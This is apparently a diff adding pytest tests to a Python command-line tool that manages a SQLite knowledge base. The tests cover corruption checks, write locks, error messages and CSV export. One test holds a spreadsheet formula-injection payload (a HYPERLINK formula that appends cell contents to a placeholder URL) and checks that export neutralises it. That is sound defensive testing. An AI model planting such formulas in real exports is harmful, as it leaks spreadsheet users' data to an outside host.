@@ -2,13 +2,19 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from sse_atlas.cli import main
+from sse_atlas.kb import KnowledgeBase, Stats
+from sse_atlas.store import SQLiteRepository
 from tests.conftest import SEED
+from tests.store.conftest import damage_table, store_copy
 
 CaptureFixture = pytest.CaptureFixture[str]
 
@@ -145,3 +151,130 @@ def test_cli_default_knowledge_base_built_on_first_use(
         True,
         True,
     )
+
+
+def test_cli_db_check_sound_store_ok(capsys: CaptureFixture, seed_db: Path) -> None:
+    assert _run(capsys, "db", "check", "--db", str(seed_db)) == (0, f"{seed_db}: ok\n", "")
+
+
+def test_cli_db_check_garbage_page_exit_1(
+    capsys: CaptureFixture, seed_db: Path, tmp_path: Path
+) -> None:
+    db = damage_table(seed_db, tmp_path / "damaged.sqlite3")
+    assert _run(capsys, "db", "check", "--db", str(db)) == (
+        1,
+        "",
+        f"sse-atlas: {db}: the database is corrupt (database disk image is malformed);"
+        " restore a backup\n",
+    )
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("edit", "gsef2018-fr/1.1.1", "title", "Nouveau titre"),
+        ("ingest", str(SEED)),
+        ("enrich",),
+    ],
+)
+def test_cli_write_on_damaged_store_refused(
+    capsys: CaptureFixture, seed_db: Path, tmp_path: Path, command: tuple[str, ...]
+) -> None:
+    # The page is damaged in the people table, which no quick read before the check touches.
+    db = damage_table(seed_db, tmp_path / "damaged.sqlite3", "people")
+    before = db.read_bytes()
+    code, out, err = _run(capsys, *command, "--db", str(db))
+    assert (code, out, err, db.read_bytes() == before) == (
+        1,
+        "",
+        f"sse-atlas: {db}: the database is corrupt (database disk image is malformed);"
+        " restore a backup\n",
+        True,
+    )
+
+
+def test_cli_edit_waits_then_gives_up_on_lock(
+    capsys: CaptureFixture, seed_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    db = store_copy(seed_db, tmp_path / "busy.sqlite3")
+    monkeypatch.setenv("SSE_ATLAS_LOCK_TIMEOUT", "0.2")
+    with SQLiteRepository(db) as other, other.write_transaction():
+        result = _run(
+            capsys, "edit", "gsef2018-fr/1.1.1", "title", "Nouveau titre", "--db", str(db)
+        )
+    assert result == (
+        1,
+        "",
+        f"sse-atlas: another process is writing to {db}; gave up after 0.2 s\n",
+    )
+
+
+def test_cli_lock_timeout_invalid(
+    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SSE_ATLAS_LOCK_TIMEOUT", "soon")
+    assert _run(capsys, "stats", "--db", str(seed_db)) == (
+        1,
+        "",
+        "sse-atlas: SSE_ATLAS_LOCK_TIMEOUT='soon': expected seconds from 0 to 86400\n",
+    )
+
+
+def _failing(error: BaseException) -> Callable[[KnowledgeBase], Stats]:
+    def stats(kb: KnowledgeBase) -> Stats:
+        raise error
+
+    return stats
+
+
+def test_cli_unexpected_error_one_line(
+    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(KnowledgeBase, "stats", _failing(RuntimeError("broken\n  here")))
+    assert _run(capsys, "stats", "--db", str(seed_db)) == (
+        1,
+        "",
+        "sse-atlas: error: RuntimeError: broken here\n",
+    )
+
+
+@pytest.mark.parametrize("position", ["before", "after"])
+def test_cli_unexpected_error_debug_traceback(
+    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch, position: str
+) -> None:
+    monkeypatch.setattr(KnowledgeBase, "stats", _failing(RuntimeError("broken")))
+    command = ["stats", "--db", str(seed_db)]
+    argv = ["--debug", *command] if position == "before" else [*command, "--debug"]
+    code, out, err = _run(capsys, *argv)
+    lines = err.splitlines()
+    assert (code, out, lines[0], lines[-1]) == (
+        1,
+        "",
+        "Traceback (most recent call last):",
+        "sse-atlas: error: RuntimeError: broken",
+    )
+
+
+def test_cli_keyboard_interrupt_exit_130(
+    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(KnowledgeBase, "stats", _failing(KeyboardInterrupt()))
+    assert _run(capsys, "stats", "--db", str(seed_db)) == (130, "", "")
+
+
+FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
+
+
+def test_cli_export_csv_formula_neutralised_unless_raw(
+    capsys: CaptureFixture, seed_db: Path, tmp_path: Path
+) -> None:
+    db = tmp_path / "formula.sqlite3"
+    db.write_bytes(seed_db.read_bytes())
+    assert main(["edit", "gsef2018-fr/1.1.1", "title", FORMULA, "--db", str(db)]) == 0
+    capsys.readouterr()
+    titles = []
+    for extra in ([], ["--raw"]):
+        code, out, _ = _run(capsys, "export", "--format", "csv", *extra, "--db", str(db))
+        row = next(r for r in csv.DictReader(io.StringIO(out)) if r["code"] == "1.1.1")
+        titles.append((code, row["title"]))
+    assert titles == [(0, f"'{FORMULA}"), (0, FORMULA)]
